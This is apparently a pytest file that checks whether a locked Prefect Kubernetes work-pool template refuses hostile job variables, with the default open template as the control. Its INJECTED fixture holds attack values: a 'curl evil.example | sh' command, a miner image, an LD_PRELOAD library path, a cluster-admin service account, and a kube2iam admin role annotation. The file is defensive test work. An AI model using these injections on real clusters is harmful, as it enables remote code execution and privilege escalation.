"""The locked Kubernetes-pool template of ``desra.pool``, through prefect-kubernetes's own rendering and Prefect's
own validation.

No Kubernetes cluster (and no Docker engine) exists here: nothing is submitted to an API server. What is run is
what prefect-kubernetes's worker does before it submits a job:
``KubernetesWorkerJobConfiguration.from_template_and_values`` (the pool's template with a flow run's job
variables, also the dotted ``env.NAME`` form) and ``prepare_for_flow_run`` (the Prefect environment, the
command, labels and name filled in). The manifest that comes out is what the worker would send to the cluster.
The server's check of a deployment run's job variables is run on the variables schema, and, on a real server,
in ``tests/integration/test_network.py``. Each check also runs on prefect-kubernetes's default (open) template,
as the control that shows it can fail.
"""

import argparse

import pytest

from desra import pool
from desra.pool import (
    DEFAULT_IMAGE,
    GPU_RESOURCE,
    KUBERNETES_LOCKED_JOB_VARIABLES,
    KUBERNETES_OPEN_JOB_VARIABLES,
    KubernetesJob,
    PoolResult,
    ensure_pool,
    is_locked,
    kubernetes_job_from_args,
    locked_base_job_template,
    locked_kubernetes_job_template,
)
from desra_core import ConfigError
from tests.deployments.jobs import render_job

# What a run's creator might send to take over the pod, or the cluster, under Prefect's default template.
INJECTED = {
    "image": "evil.example/miner:latest",
    "command": "sh -c 'curl evil.example | sh'",
    "env": {"LD_PRELOAD": "/tmp/evil.so", "PYTHONPATH": "/tmp/evil"},
    "service_account_name": "cluster-admin",
    "namespace": "kube-system",
    "labels": {"app": "payments"},  # a Service's selector: traffic of another app to this pod
    "annotations": {"iam.amazonaws.com/role": "admin"},  # kube2iam: the cloud role the pod assumes
    "image_pull_policy": "Always",
    "backoff_limit": 6,
    "cpu_limit": "64",
    "memory_limit": "512Gi",
}
WORKER_COMMAND = ["prefect", "flow-run", "execute"]  # prefect-kubernetes's own, with no args in the template


@pytest.fixture(autouse=True)
def own_prefect_home(tmp_path, monkeypatch):
    monkeypatch.setenv("PREFECT_HOME", str(tmp_path / "prefect-home"))
    for name in ("PYTHONPATH", "LD_PRELOAD"):  # the worker's own environment holds neither
        monkeypatch.delenv(name, raising=False)


def _default():
    from prefect_kubernetes.worker import KubernetesWorker

    return KubernetesWorker.get_default_base_job_template()


def _job(template: dict, values: dict):
    """The job configuration prefect-kubernetes's worker would submit for a flow run with these job variables."""
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    return render_job(KubernetesWorkerJobConfiguration, template, values, run_name="tidy-otter")


def _container(config) -> dict:
    [container] = config.job_manifest["spec"]["template"]["spec"]["containers"]
    return container


def _env(container: dict) -> dict:
    return {e["name"]: e.get("value") for e in container.get("env", [])}


def test_locked_template_keeps_only_harmless_variables():
    default, locked = _default(), locked_kubernetes_job_template()
    assert set(KUBERNETES_LOCKED_JOB_VARIABLES) <= set(default["variables"]["properties"])  # what Prefect exposes
    assert set(locked["variables"]["properties"]) == set(KUBERNETES_OPEN_JOB_VARIABLES)
    assert locked["variables"]["additionalProperties"] is False and "definitions" not in locked["variables"]
    assert pool._placeholders(locked["job_configuration"]) == set(KUBERNETES_OPEN_JOB_VARIABLES)
    assert not {"command", "env", "labels", "annotations", "cluster_config"} & set(locked["job_configuration"])
    assert is_locked(locked) and not is_locked(default)
    assert is_locked(locked_base_job_template())  # the process template is still judged by its own rules
    assert _default() == default, "the builder changed its input"


def test_the_server_accepts_the_template():
    """What the server checks when the pool is created: every placeholder is a declared variable."""
    from prefect.server.schemas.actions import WorkPoolCreate

    created = WorkPoolCreate(name="desra", type="kubernetes", base_job_template=locked_kubernetes_job_template())
    assert created.base_job_template["variables"]["additionalProperties"] is False


def test_the_worker_renders_one_gpu_the_project_image_and_its_own_command():
    open_job = _job(_default(), INJECTED)  # the control: prefect-kubernetes's default obeys the run
    container = _container(open_job)
    assert container["image"] == INJECTED["image"]
    assert container["args"] == ["sh", "-c", "curl evil.example | sh"]
    assert _env(container)["LD_PRELOAD"] == "/tmp/evil.so"
    assert open_job.job_manifest["spec"]["template"]["spec"]["serviceAccountName"] == "cluster-admin"
    assert open_job.namespace == "kube-system" == open_job.job_manifest["metadata"]["namespace"]
    assert open_job.job_manifest["metadata"]["annotations"] == INJECTED["annotations"]

    job = _job(locked_kubernetes_job_template(), {**INJECTED, "name": "desra-run", "stream_output": False})
    container = _container(job)
    assert container["image"] == DEFAULT_IMAGE == "desra-worker:latest"  # the image docker-compose.yml builds
    assert container["resources"] == {"limits": {GPU_RESOURCE: 1}}
    assert container["imagePullPolicy"] == "IfNotPresent"
    assert container["args"] == WORKER_COMMAND and "command" not in container
    env = _env(container)
    assert not {"LD_PRELOAD", "PYTHONPATH"} & set(env), env
    assert all(name.startswith("PREFECT_") for name in env), env  # the worker's Prefect settings and the run's id
    assert "envFrom" not in container
    pod = job.job_manifest["spec"]["template"]
    assert "serviceAccountName" not in pod["spec"]  # the namespace's default account
    assert job.namespace == "default" == job.job_manifest["metadata"]["namespace"]
    assert job.job_manifest["spec"]["backoffLimit"] == 0
    assert "app" not in job.job_manifest["metadata"]["labels"] and "app" not in pod["metadata"]["labels"]
    assert job.job_manifest["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "prefect"
    assert job.job_manifest["metadata"]["annotations"] == {} and "annotations" not in pod["metadata"]
    assert job.job_manifest["metadata"]["generateName"] == "desra-run-"  # what a run may still choose
    assert job.stream_output is False


def test_dotted_job_variables_change_nothing_either():
    """``env.NAME`` keys are expanded by ``from_template_and_values``: they must not reach the pod either."""
    values = {"env.LD_PRELOAD": "/tmp/evil.so", "image": "evil", "command": "sh"}
    assert _env(_container(_job(_default(), values)))["LD_PRELOAD"] == "/tmp/evil.so"  # the control
    container = _container(_job(locked_kubernetes_job_template(), values))
    assert "LD_PRELOAD" not in _env(container) and container["image"] == DEFAULT_IMAGE
    assert container["args"] == WORKER_COMMAND


def test_what_the_operator_fixes_reaches_the_pod_and_a_run_cannot_change_it():
    job = KubernetesJob(image="registry.example/desra-worker:1.0", namespace="gpu", service_account="desra-runner",
                        env=(("AWS_ENDPOINT_URL", "http://minio.storage:9000"), ("DESRA_ALLOWED_ROOTS", "s3://drops")),
                        env_secret="desra-s3")
    template = locked_kubernetes_job_template(job)
    assert is_locked(template)
    config = _job(template, {**INJECTED, "env": {"AWS_ENDPOINT_URL": "http://evil.example"}})
    container = _container(config)
    assert container["image"] == "registry.example/desra-worker:1.0"
    assert container["resources"] == {"limits": {GPU_RESOURCE: 1}}
    env = _env(container)
    assert env["AWS_ENDPOINT_URL"] == "http://minio.storage:9000" and env["DESRA_ALLOWED_ROOTS"] == "s3://drops"
    assert "LD_PRELOAD" not in env and env["PREFECT__FLOW_RUN_ID"]  # the worker's settings come first
    assert container["envFrom"] == [{"secretRef": {"name": "desra-s3"}}]
    assert config.job_manifest["spec"]["template"]["spec"]["serviceAccountName"] == "desra-runner"
    assert config.namespace == "gpu" == config.job_manifest["metadata"]["namespace"]
    assert container["args"] == WORKER_COMMAND


SERVER_VALIDATION = dict(raise_on_error=True, preprocess=True, ignore_required=False, allow_none_with_default=True)


@pytest.mark.parametrize("variable", ["image", "command", "env", "service_account_name", "namespace", "labels",
                                      "annotations", "cpu_limit"])
def test_the_server_schema_refuses_locked_variables(variable):
    """What the server runs on a deployment run's job variables (``_validate_work_pool_job_variables``)."""
    from prefect.utilities.schema_tools import ValidationError, validate

    validate({variable: INJECTED[variable]}, _default()["variables"], **SERVER_VALIDATION)  # the control: accepted
    with pytest.raises(ValidationError, match=variable):
        validate({variable: INJECTED[variable]}, locked_kubernetes_job_template()["variables"], **SERVER_VALIDATION)


def test_the_server_schema_accepts_the_open_variables():
    from prefect.utilities.schema_tools import validate

    validate({"name": "desra-run", "stream_output": False, "pod_watch_timeout_seconds": 120,
              "job_watch_timeout_seconds": 3600}, locked_kubernetes_job_template()["variables"], **SERVER_VALIDATION)


@pytest.mark.parametrize("kwargs, match", [
    ({"image": "evil {{ image }}"}, "image reference"),
    ({"image": ""}, "image reference"),
    ({"namespace": "Kube_System"}, "namespace"),
    ({"service_account": "Admin!"}, "service account"),
    ({"env_secret": "a b"}, "secret"),
    ({"env": (("1BAD", "x"),)}, "environment variable names"),
    ({"env": (("A", "x"), ("A", "y"))}, "once"),
    ({"env": (("A", "{{ image }}"),)}, "placeholders"),
])
def test_bad_operator_values_are_refused(kwargs, match):
    with pytest.raises(ConfigError, match=match):
        KubernetesJob(**kwargs)


def test_a_template_that_templates_more_is_refused_not_left_open():
    """A prefect-kubernetes that adds a placeholder this module does not know (here a node selector) fails."""
    newer = _default()
    newer["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]["nodeSelector"] = "{{ node_selector }}"
    newer["variables"]["properties"]["node_selector"] = {"type": "object"}
    with pytest.raises(ConfigError, match="node_selector"):
        locked_kubernetes_job_template(default=newer)


def test_a_process_template_is_not_a_kubernetes_one():
    from prefect.workers.process import ProcessWorker

    with pytest.raises(ConfigError, match="prefect-kubernetes"):
        locked_kubernetes_job_template(default=ProcessWorker.get_default_base_job_template())


def test_is_locked_sees_a_reopened_container():
    reopened = locked_kubernetes_job_template()
    _container_of = reopened["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]["containers"][0]
    _container_of["args"] = ["sh", "-c", "id"]  # a constant command, no placeholder: still not the worker's own
    assert not is_locked(reopened)
    placeheld = locked_kubernetes_job_template()
    placeheld["job_configuration"]["job_manifest"]["metadata"]["namespace"] = "{{ namespace }}"
    assert not is_locked(placeheld)


# --- ensure_pool and the command lines -------------------------------------------------------------------

class FakeClient:
    """A sync Prefect client that holds work pools in memory and records what it was sent."""

    def __init__(self, pools=None):
        self.pools = dict(pools or {})
        self.sent: list[tuple[str, object]] = []

    def read_work_pool(self, name):
        from prefect.exceptions import ObjectNotFound

        if name not in self.pools:
            raise ObjectNotFound(http_exc=Exception(name))
        return self.pools[name]

    def create_work_pool(self, create):
        from prefect.client.schemas.objects import WorkPool

        self.sent.append(("create", create))
        self.pools[create.name] = WorkPool(name=create.name, type=create.type,
                                           base_job_template=create.base_job_template,
                                           concurrency_limit=create.concurrency_limit)

    def update_work_pool(self, name, update):
        self.sent.append(("update", update))
        old = self.pools[name]
        self.pools[name] = old.model_copy(update={"base_job_template": update.base_job_template,
                                                  "concurrency_limit": update.concurrency_limit})


def test_ensure_pool_creates_then_keeps_a_locked_kubernetes_pool():
    client = FakeClient()
    job = KubernetesJob(image="registry.example/desra-worker:1.0")
    first = ensure_pool("desra", limit=2, client=client, pool_type="kubernetes", kubernetes=job)
    second = ensure_pool("desra", limit=2, client=client, pool_type="kubernetes", kubernetes=job)
    [(what, create)] = client.sent
    assert what == "create" and create.type == "kubernetes" and create.concurrency_limit == 2
    assert create.base_job_template == locked_kubernetes_job_template(job) and is_locked(create.base_job_template)
    assert first.status == "created" and second.status == "unchanged"
    assert first.summary().startswith("created work pool 'desra' (type kubernetes; image "
                                      "registry.example/desra-worker:1.0, namespace default, 1 nvidia.com/gpu")
    assert "runs cannot set the image, command, env, service account, namespace" in first.summary()


def test_ensure_pool_locks_an_open_kubernetes_pool_and_a_new_image_updates_it():
    from prefect.client.schemas.objects import WorkPool

    client = FakeClient({"k": WorkPool(name="k", type="kubernetes", base_job_template=_default())})
    opened = ensure_pool("k", limit=1, client=client, pool_type="kubernetes")
    assert opened.status == "updated", opened
    assert "open base job template replaced (runs could set " in opened.summary()
    for variable in ("command", "env", "image", "namespace", "service_account_name"):
        assert variable in opened.changes[0], opened.changes
    assert is_locked(client.pools["k"].base_job_template)
    moved = ensure_pool("k", limit=1, client=client, pool_type="kubernetes",
                        kubernetes=KubernetesJob(image="registry.example/desra-worker:2.0"))
    assert moved.status == "updated" and moved.changes == ("base job template updated",)
    assert _container(_job(client.pools["k"].base_job_template, {}))["image"] == "registry.example/desra-worker:2.0"


def test_ensure_pool_refuses_a_pool_of_the_other_type():
    from prefect.client.schemas.objects import WorkPool

    client = FakeClient({"desra": WorkPool(name="desra", type="process", base_job_template=locked_base_job_template())})
    with pytest.raises(ConfigError, match="type 'kubernetes', got 'process'"):
        ensure_pool("desra", client=client, pool_type="kubernetes")
    with pytest.raises(ConfigError, match="pool type"):
        ensure_pool("desra", client=client, pool_type="docker")  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match="kubernetes"):
        ensure_pool("desra", client=client, kubernetes=KubernetesJob())
    assert client.sent == []
    assert PoolResult(status="unchanged", name="desra", limit=1).summary() == (
        "work pool 'desra' already locked (runs cannot set command, env, working_dir; at most 1 flow run(s) at once)")


def _args(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    pool.add_kubernetes_arguments(parser)
    return parser.parse_args(argv)


def test_the_command_line_options_make_the_job():
    assert kubernetes_job_from_args(_args()) is None  # process: the default
    job = kubernetes_job_from_args(_args("--type", "kubernetes", "--image", "r.example/d:1", "--namespace", "gpu",
                                         "--env", "A=b=c", "--env", "EMPTY=", "--env-secret", "creds"))
    assert job == KubernetesJob(image="r.example/d:1", namespace="gpu", env=(("A", "b=c"), ("EMPTY", "")),
                                env_secret="creds")
    assert kubernetes_job_from_args(_args("--type", "kubernetes")) == KubernetesJob(image=DEFAULT_IMAGE)
    with pytest.raises(ConfigError, match="--image only with a kubernetes pool"):
        kubernetes_job_from_args(_args("--image", "r.example/d:1"))
    with pytest.raises(ConfigError, match="NAME=VALUE"):
        kubernetes_job_from_args(_args("--type", "kubernetes", "--env", "A"))


def test_python_m_desra_pool_refuses_kubernetes_options_on_a_process_pool(monkeypatch, capsys):
    monkeypatch.setattr(pool, "ensure_pool", lambda *a, **k: pytest.fail("called the API"))
    assert pool.main(["--image", "r.example/d:1"]) == 2
    assert "only with a kubernetes pool" in capsys.readouterr().err
